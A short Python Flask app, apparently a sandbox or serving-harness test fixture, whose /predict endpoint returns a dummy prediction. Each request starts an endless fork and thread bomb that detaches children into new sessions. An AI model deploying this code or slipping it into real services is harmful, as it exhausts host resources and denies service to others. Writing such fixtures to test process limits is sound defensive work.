"""Starts processes and threads with every request, each in its own session."""
import os
import threading
import time

from flask import Flask

app = Flask(__name__)


def breed():
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            if os.fork() == 0:
                os.setsid()
        except (OSError, RuntimeError):
            time.sleep(0.001)


@app.route("/predict", methods=["POST"])
def predict():
    threading.Thread(target=breed, daemon=True).start()
    return {"prediction": 1}


if __name__ == "__main__":
    app.run()
